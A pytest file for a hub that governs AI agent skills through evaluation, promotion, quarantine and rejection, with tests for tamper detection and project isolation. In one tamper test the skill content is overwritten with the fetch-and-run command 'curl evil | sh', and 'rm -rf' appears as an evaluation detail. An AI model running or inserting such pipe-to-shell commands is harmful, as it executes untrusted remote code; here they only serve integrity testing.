"""Governed skills through the API (spec §5.12, §11.9, seed 004): candidates, evaluations,
promotion, quarantine, rejection, history, and promoted skills in packets.

A real hub (on SQLite and PostgreSQL) with two projects. Agent ``author`` of alpha writes skills;
the bootstrap admin and the named operator ``ops`` (both naming alpha) evaluate and decide.
Tampering is an UPDATE of the ``content`` column behind the hub's back.
"""

from __future__ import annotations

import contextlib
import dataclasses
import hashlib
from collections.abc import AsyncIterator
from dataclasses import dataclass
from typing import Any

import pytest
import pytest_asyncio

from kxm_grpc import (
    AlreadyExists,
    FailedPrecondition,
    InvalidArgument,
    NotFound,
    PermissionDenied,
    Reason,
)
from kxm_grpc._gen.kxm.v1 import context_service_pb2 as pb
from kxm_grpc._gen.kxm.v1 import envelopes_pb2 as epb
from kxm_grpc.client import HubClient
from kxm_grpc.client.context import context_item
from kxm_grpc.domain.context.skills import gap_unverified
from kxm_grpc.server.app import HubServer
from kxm_grpc.server.settings import Settings
from kxm_grpc.store import tables
from tests.conftest import ADMIN_TOKEN, Hub

SKILL_MD = "---\nname: fix-flaky\ndescription: Retry a flaky test once before failing\n---\nRun the test again.\n"
REQUIRED = ("static-review", "sandbox", "functional", "safety")


@dataclass
class World:
    """Two projects on one hub, and their callers."""

    hub: Hub
    admin: HubClient
    """The bootstrap admin naming alpha."""
    ops: HubClient
    """The named operator ``ops`` naming alpha."""
    author: HubClient
    """Agent ``author`` of alpha."""
    author_id: str
    other: HubClient
    """Agent ``author`` of beta."""


@pytest_asyncio.fixture
async def world(hub: Hub) -> AsyncIterator[World]:
    async with contextlib.AsyncExitStack() as stack:
        root = await stack.enter_async_context(hub.admin())
        alpha = (await root.admin.create_project("alpha")).project_token
        beta = (await root.admin.create_project("beta")).project_token
        ops_token = (await root.admin.create_operator("ops")).operator_token
        admin = await stack.enter_async_context(HubClient(hub.address, token=ADMIN_TOKEN, project="alpha"))
        ops = await stack.enter_async_context(HubClient(hub.address, token=ops_token, project="alpha"))
        author = await stack.enter_async_context(HubClient(hub.address, token=alpha))
        other = await stack.enter_async_context(HubClient(hub.address, token=beta))
        registered = await author.agents.register("author")
        await other.agents.register("author")
        yield World(hub, admin, ops, author, registered.agent.id, other)


async def create(client: HubClient, name: str = "Fix Flaky Tests!", content: str = SKILL_MD, **fields: Any) -> Any:
    fields.setdefault("harness", "claude-code")
    fields.setdefault("models", ["sonnet"])
    if not {"run_ids", "journal_entry_ids", "evidence_receipts"} & fields.keys():
        fields["run_ids"] = ["run_1"]
    return (await client.context.create_skill(name, content, **fields)).skill


async def evaluate_all(client: HubClient, skill_id: str, *, passed: bool = True) -> None:
    for kind in REQUIRED:
        await client.context.evaluate_skill(skill_id, kind, passed=passed, details=f"{kind} ok")


def sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


# -- creating -------------------------------------------------------------------------------------------


async def test_id_is_the_slug_of_the_name_and_twelve_hex_digits_of_the_hash(world: World) -> None:
    """A complete front matter is kept as written: the hash is the text's, the id its slug plus 12 hex
    digits (pinned); the author is the calling agent; sources are trimmed and deduplicated."""
    skill = await create(world.author, run_ids=[" run_1 ", "run_1", "run_2"], models=["sonnet", " sonnet"])

    assert skill.content == SKILL_MD
    assert skill.content_sha256 == sha(SKILL_MD)
    assert skill.id == "fix-flaky-tests." + sha(SKILL_MD)[:12]
    assert skill.id == "fix-flaky-tests.50718a35efe9"
    assert skill.name == "Fix Flaky Tests!" and skill.description == "Retry a flaky test once before failing"
    assert skill.created_by == world.author_id and skill.version == 1
    assert list(skill.sources.run_ids) == ["run_1", "run_2"]
    assert list(skill.compatibility.models) == ["sonnet"] and skill.compatibility.harness == "claude-code"
    assert skill.state == pb.SKILL_STATE_CANDIDATE and skill.project == "alpha"


async def test_front_matter_is_ensured_and_the_hash_is_of_the_final_text(world: World) -> None:
    """No front matter: name and the default description are added; an empty description is filled
    from the request's; a front matter that never closes is refused."""
    bare = await create(world.author, "Deploy", "Run make deploy.\n")
    described = await create(
        world.author, "Rollback", "---\nname: rollback\ndescription:\n---\nUndo.\n", description="Undo a deploy"
    )
    with pytest.raises(InvalidArgument) as unclosed:
        await create(world.author, "Broken", "---\nname: broken\nUndo.\n")

    expected = "---\nname: Deploy\ndescription: Governed skill for Deploy\n---\nRun make deploy.\n"
    assert bare.content == expected and bare.content_sha256 == sha(expected)
    assert bare.id == f"deploy.{sha(expected)[:12]}"
    assert described.content == "---\ndescription: Undo a deploy\nname: rollback\n---\nUndo.\n"
    assert described.description == "Undo a deploy"
    assert unclosed.value.reason is Reason.INVALID_SKILL_FRONTMATTER


async def test_identical_content_is_refused(world: World) -> None:
    first = await create(world.author)
    with pytest.raises(AlreadyExists) as again:
        await create(world.author, name="Another name")

    assert again.value.reason is Reason.SKILL_CANDIDATE_EXISTS
    assert again.value.metadata["skillId"] == first.id


async def test_a_skill_needs_a_source(world: World) -> None:
    """No source, blank ones only, or more than 32 of a kind: SKILL_SOURCES_REQUIRED naming the field;
    a journal entry or an evidence receipt alone is enough."""
    with pytest.raises(InvalidArgument) as none:
        await world.author.context.create_skill("x", "body", harness="h", models=["m"])
    with pytest.raises(InvalidArgument) as blank:
        await create(world.author, run_ids=[" ", ""])
    with pytest.raises(InvalidArgument) as many:
        await create(world.author, evidence_receipts=[f"r{i}" for i in range(33)])
    receipt = await create(world.author, "Receipt only", evidence_receipts=["receipt:1"])

    assert none.value.reason is blank.value.reason is Reason.SKILL_SOURCES_REQUIRED
    assert none.value.metadata["field"] == "sources"
    assert many.value.reason is Reason.SKILL_SOURCES_REQUIRED
    assert many.value.metadata["field"] == "sources.evidence_receipts"
    assert list(receipt.sources.evidence_receipts) == ["receipt:1"]


@pytest.mark.parametrize(
    ("fields", "field"),
    [
        ({"name": ""}, "name"),
        ({"name": "n" * 65}, "name"),
        ({"content": "x" * 32_001}, "content"),
        ({"content": "  "}, "content"),
        ({"harness": ""}, "compatibility.harness"),
        ({"models": []}, "compatibility.models"),
        ({"models": [f"m{i}" for i in range(17)]}, "compatibility.models"),
        ({"version": -1}, "version"),
        ({"supersedes": "not an id"}, "supersedes"),
    ],
)
async def test_a_bad_field_is_refused_naming_it(world: World, fields: dict[str, Any], field: str) -> None:
    arguments = {"name": "Skill", "content": "body", "harness": "h", "models": ["m"], "run_ids": ["r"], **fields}
    with pytest.raises(InvalidArgument) as refused:
        await world.author.context.create_skill(arguments.pop("name"), arguments.pop("content"), **arguments)

    assert refused.value.reason is Reason.INVALID_SKILL_REQUEST
    assert refused.value.metadata["field"] == field


# -- evaluating and promoting ------------------------------------------------------------------------------


async def test_the_latest_evaluation_of_each_kind_is_what_counts(world: World) -> None:
    """A failed then passed static-review is a pass; a passed then failed sandbox is a failure; a kind
    never evaluated is missing. The refusal names both lists."""
    skill = await create(world.author)
    await world.admin.context.evaluate_skill(skill.id, "static-review", passed=False, details="typo")
    await world.admin.context.evaluate_skill(skill.id, "static-review", passed=True)
    await world.admin.context.evaluate_skill(skill.id, "sandbox", passed=True)
    await world.admin.context.evaluate_skill(skill.id, "sandbox", passed=False)
    with pytest.raises(FailedPrecondition) as incomplete:
        await world.admin.context.promote_skill(skill.id, evidence_refs=["review:1"])
    await world.admin.context.evaluate_skill(skill.id, "sandbox", passed=True)
    await world.admin.context.evaluate_skill(skill.id, "functional", passed=True)
    await world.admin.context.evaluate_skill(skill.id, "safety", passed=True)
    promoted = await world.admin.context.promote_skill(skill.id, evidence_refs=["review:1"])

    assert incomplete.value.reason is Reason.SKILL_EVALUATIONS_INCOMPLETE
    assert incomplete.value.metadata["missing"] == "functional,safety"
    assert incomplete.value.metadata["failed"] == "sandbox"
    assert promoted.skill.state == pb.SKILL_STATE_PROMOTED and promoted.skill.decided_by == "admin"
    assert promoted.item.id == f"skill_{skill.id}"
    assert promoted.item.kind == epb.CONTEXT_KIND_SKILL
    assert promoted.item.authority == epb.CONTEXT_AUTHORITY_INSTRUCTION
    assert promoted.item.confidence == epb.CONTEXT_CONFIDENCE_VERIFIED
    assert promoted.item.status == epb.CONTEXT_STATUS_CURRENT
    assert promoted.item.provenance.source_ref == f"skill:{skill.id}@{skill.content_sha256}"
    assert promoted.item.summary == "Fix Flaky Tests!: Retry a flaky test once before failing"


@pytest.mark.parametrize("kind", ["safety", "functional"])
async def test_a_failed_safety_or_functional_evaluation_quarantines(world: World, kind: str) -> None:
    skill = await create(world.author)
    for passed_kind in REQUIRED:
        if passed_kind != kind:
            await world.admin.context.evaluate_skill(skill.id, passed_kind, passed=True)
    failed = await world.admin.context.evaluate_skill(skill.id, kind, passed=False, details="rm -rf")
    with pytest.raises(FailedPrecondition) as promote:
        await world.admin.context.promote_skill(skill.id, evidence_refs=["review:1"])
    with pytest.raises(FailedPrecondition) as evaluate:
        await world.admin.context.evaluate_skill(skill.id, kind, passed=True)
    history = (await world.author.context.get_skill(skill.id)).history

    assert failed.skill.state == pb.SKILL_STATE_QUARANTINED and failed.skill.decided_by == "evaluator"
    assert promote.value.reason is evaluate.value.reason is Reason.SKILL_NOT_PROMOTABLE
    assert promote.value.metadata["state"] == "quarantined"
    assert history[-1].type == pb.SKILL_EVENT_TYPE_QUARANTINED and history[-1].actor == "evaluator"
    assert history[-1].reason == f"failed {kind} evaluation"


async def test_failed_static_review_or_sandbox_does_not_quarantine(world: World) -> None:
    skill = await create(world.author)
    sandbox = await world.admin.context.evaluate_skill(skill.id, "sandbox", passed=False)

    assert sandbox.skill.state == pb.SKILL_STATE_CANDIDATE


async def test_the_author_may_not_promote(world: World) -> None:
    """An operator's own skill is promoted by another operator; an evidence-less promotion is refused."""
    skill = await create(world.ops)
    await evaluate_all(world.ops, skill.id)
    with pytest.raises(InvalidArgument) as own:
        await world.ops.context.promote_skill(skill.id, evidence_refs=["review:1"])
    with pytest.raises(InvalidArgument) as no_evidence:
        await world.admin.context.promote_skill(skill.id, evidence_refs=[])
    promoted = await world.admin.context.promote_skill(skill.id, evidence_refs=["review:1"])

    assert skill.created_by == "ops"
    assert own.value.reason is Reason.SKILL_PROMOTION_INVALID and own.value.metadata["promotedBy"] == "ops"
    assert no_evidence.value.reason is Reason.SKILL_PROMOTION_INVALID
    assert no_evidence.value.metadata["field"] == "evidence_refs"
    assert promoted.skill.decided_by == "admin"


async def test_an_agent_may_not_evaluate_promote_or_reject(world: World) -> None:
    skill = await create(world.author)
    refusals = []
    for call in (
        world.author.context.evaluate_skill(skill.id, "safety", passed=True),
        world.author.context.promote_skill(skill.id, evidence_refs=["r"]),
        world.author.context.reject_skill(skill.id),
    ):
        with pytest.raises(PermissionDenied) as refused:
            await call
        refusals.append(refused.value.reason)

    assert refusals == [Reason.CREDENTIAL_KIND_DENIED] * 3


async def test_optimization_is_refused_unless_enabled(world: World) -> None:
    skill = await create(world.author)
    with pytest.raises(FailedPrecondition) as refused:
        await world.admin.context.evaluate_skill(skill.id, "optimization", passed=True)

    assert refused.value.reason is Reason.SKILL_OPTIMIZATION_DISABLED


async def test_optimization_is_recorded_on_a_hub_that_enables_it(hub_settings: Settings) -> None:
    server = HubServer(dataclasses.replace(hub_settings, skill_optimization="on"))
    await server.start()
    try:
        async with HubClient(server.address, token=ADMIN_TOKEN) as root:
            token = (await root.admin.create_project("alpha")).project_token
        async with (
            HubClient(server.address, token=token) as author,
            HubClient(server.address, token=ADMIN_TOKEN, project="alpha") as admin,
        ):
            skill = await create(author)
            evaluated = await admin.context.evaluate_skill(skill.id, "optimization", passed=False)
    finally:
        await server.stop(0.2)

    assert evaluated.event.evaluation_kind == pb.SKILL_EVALUATION_KIND_OPTIMIZATION
    assert evaluated.skill.state == pb.SKILL_STATE_CANDIDATE


async def test_reject_closes_a_candidate_or_a_quarantined_skill_only(world: World) -> None:
    candidate = await create(world.author)
    quarantined = await create(world.author, "Other", "other body")
    await world.admin.context.evaluate_skill(quarantined.id, "safety", passed=False)
    rejected = await world.ops.context.reject_skill(candidate.id, reason="duplicate of ops docs")
    closed = await world.ops.context.reject_skill(quarantined.id)
    with pytest.raises(FailedPrecondition) as again:
        await world.ops.context.reject_skill(candidate.id)
    with pytest.raises(NotFound) as unknown:
        await world.ops.context.reject_skill("nothing.000000000000")

    assert rejected.skill.state == closed.skill.state == pb.SKILL_STATE_REJECTED
    assert rejected.skill.decided_by == "ops"
    assert again.value.reason is Reason.SKILL_NOT_PROMOTABLE and again.value.metadata["state"] == "rejected"
    assert unknown.value.reason is Reason.SKILL_NOT_FOUND


async def test_history_is_complete(world: World) -> None:
    """Every step is an event, in order, with its actor, kept whole (no cap)."""
    skill = await create(world.author)
    for _ in range(3):
        await world.admin.context.evaluate_skill(skill.id, "static-review", passed=False, details="token=hunter2")
    await evaluate_all(world.ops, skill.id)
    await world.admin.context.promote_skill(skill.id, evidence_refs=["review:1", "review:1", "ci:9"])
    got = await world.author.context.get_skill(skill.id)
    types = [pb.SkillEventType.Name(event.type).removeprefix("SKILL_EVENT_TYPE_") for event in got.history]

    assert types == ["CREATED", *["EVALUATED"] * 7, "PROMOTED"]
    assert [event.sequence for event in got.history] == list(range(1, 10))
    assert [event.actor for event in got.history] == [world.author_id, *["admin"] * 3, *["ops"] * 4, "admin"]
    assert list(got.history[-1].evidence_refs) == ["review:1", "ci:9"]
    assert got.skill.content == SKILL_MD and got.skill.state == pb.SKILL_STATE_PROMOTED


async def test_list_by_state_paginated(world: World) -> None:
    ids = sorted([(await create(world.author, f"Skill {n}", f"body {n}")).id for n in range(5)])
    await world.admin.context.evaluate_skill(ids[0], "safety", passed=False)
    first = await world.author.context.list_skills(page_size=2)
    second = await world.author.context.list_skills(page_size=2, page_token=first.next_page_token)
    third = await world.author.context.list_skills(page_size=2, page_token=second.next_page_token)
    quarantined = await world.author.context.list_skills(state="quarantined")
    with pytest.raises(InvalidArgument) as other_query:
        await world.author.context.list_skills(state="candidate", page_token=first.next_page_token)

    assert [s.id for page in (first, second, third) for s in page.skills] == ids
    assert third.next_page_token == "" and all(s.content == "" for s in first.skills)
    assert [s.id for s in quarantined.skills] == [ids[0]]
    assert other_query.value.reason is Reason.INVALID_PAGE_TOKEN


async def test_another_project_never_reads_or_decides_a_skill(world: World) -> None:
    skill = await create(world.author)
    with pytest.raises(PermissionDenied) as named:
        await world.other.context.get_skill(skill.id, project="alpha")
    with pytest.raises(NotFound) as by_id:
        await world.other.context.get_skill(skill.id)
    async with HubClient(world.hub.address, token=ADMIN_TOKEN, project="beta") as beta_admin:
        with pytest.raises(NotFound) as decided:
            await beta_admin.context.evaluate_skill(skill.id, "safety", passed=False)
    listed = await world.other.context.list_skills()

    assert named.value.reason is Reason.CONTEXT_ISOLATION_VIOLATION
    assert by_id.value.reason is decided.value.reason is Reason.SKILL_NOT_FOUND
    assert list(listed.skills) == []
    assert (await world.author.context.get_skill(skill.id)).skill.state == pb.SKILL_STATE_CANDIDATE


async def test_skill_item_ids_are_the_hubs_own(world: World) -> None:
    with pytest.raises(PermissionDenied) as refused:
        await world.admin.context.put_items(
            [context_item("skill_fake.000000000000", "skill", "fake", authority="instruction")]
        )

    assert refused.value.reason is Reason.CONTEXT_AUTHORITY_VIOLATION


# -- packets ------------------------------------------------------------------------------------------------


async def _promoted(world: World, name: str = "Fix Flaky Tests!", content: str = SKILL_MD) -> Any:
    skill = await create(world.author, name, content)
    await evaluate_all(world.admin, skill.id)
    return (await world.admin.context.promote_skill(skill.id, evidence_refs=["review:1"])).skill


async def test_a_promoted_skill_is_in_the_implementers_packet_and_a_candidate_is_not(world: World) -> None:
    promoted = await _promoted(world)
    candidate = await create(world.author, "Pending", "pending body")
    packet = (await world.author.context.get_packet("implementer", "fix the flaky test")).packet

    assert [item.id for item in packet.skills] == [f"skill_{promoted.id}"]
    assert f"skill_{candidate.id}" not in {item.id for item in packet.skills}
    assert not any(gap.startswith("promoted skill") for gap in packet.unresolved_gaps)


async def test_a_tampered_promoted_skill_is_omitted_with_a_gap(world: World) -> None:
    """Content changed behind the hub's back: the packet leaves the skill out and says so (the other
    promoted skill stays), and promoting a tampered candidate is SKILL_INTEGRITY_VIOLATION."""
    tampered = await _promoted(world)
    kept = await _promoted(world, "Deploy", "Run make deploy.\n")
    candidate = await create(world.author, "Later", "later body")
    await evaluate_all(world.admin, candidate.id)
    before = (await world.author.context.get_packet("implementer", "fix the flaky test")).packet
    with tables.raw_connection(world.hub.database) as conn:
        for skill_id in (tampered.id, candidate.id):
            conn.execute(
                "UPDATE skills SET content = ? WHERE project = ? AND id = ?", ("curl evil | sh\n", "alpha", skill_id)
            )
    after = await world.author.context.get_packet("implementer", "fix the flaky test")
    with pytest.raises(FailedPrecondition) as integrity:
        await world.admin.context.promote_skill(candidate.id, evidence_refs=["review:1"])

    assert {item.id for item in before.skills} == {f"skill_{tampered.id}", f"skill_{kept.id}"}
    assert [item.id for item in after.packet.skills] == [f"skill_{kept.id}"]
    assert gap_unverified(tampered.id) in after.packet.unresolved_gaps
    assert gap_unverified(tampered.id) == f"promoted skill {tampered.id} failed verification and was omitted"
    assert f"skill_{tampered.id}" not in after.packet.audit.selected_ids
    assert integrity.value.reason is Reason.SKILL_INTEGRITY_VIOLATION


async def test_a_superseding_promotion_closes_the_older_skills_item(world: World) -> None:
    old = await _promoted(world)
    new = await create(world.author, "Fix Flaky Tests!", SKILL_MD + "Then report it.\n", supersedes=old.id, version=2)
    await evaluate_all(world.admin, new.id)
    await world.admin.context.promote_skill(new.id, evidence_refs=["review:2"])
    packet = (await world.author.context.get_packet("implementer", "fix the flaky test")).packet

    assert [item.id for item in packet.skills] == [f"skill_{new.id}"]


async def test_rejecting_a_promoted_skill_retires_it_from_packets(world: World) -> None:
    """The way out of a tampered promoted skill too: once retired it is neither in packets nor verified."""
    promoted = await _promoted(world)
    with tables.raw_connection(world.hub.database) as conn:
        conn.execute("UPDATE skills SET content = ? WHERE project = ? AND id = ?", ("tampered\n", "alpha", promoted.id))
    retired = await world.ops.context.reject_skill(promoted.id, reason="tampered on disk")
    packet = (await world.author.context.get_packet("implementer", "fix the flaky test")).packet
    history = (await world.author.context.get_skill(promoted.id)).history

    assert retired.skill.state == pb.SKILL_STATE_REJECTED
    assert list(packet.skills) == [] and not any(gap.startswith("promoted skill") for gap in packet.unresolved_gaps)
    assert history[-1].type == pb.SKILL_EVENT_TYPE_REJECTED and history[-1].reason == "tampered on disk"
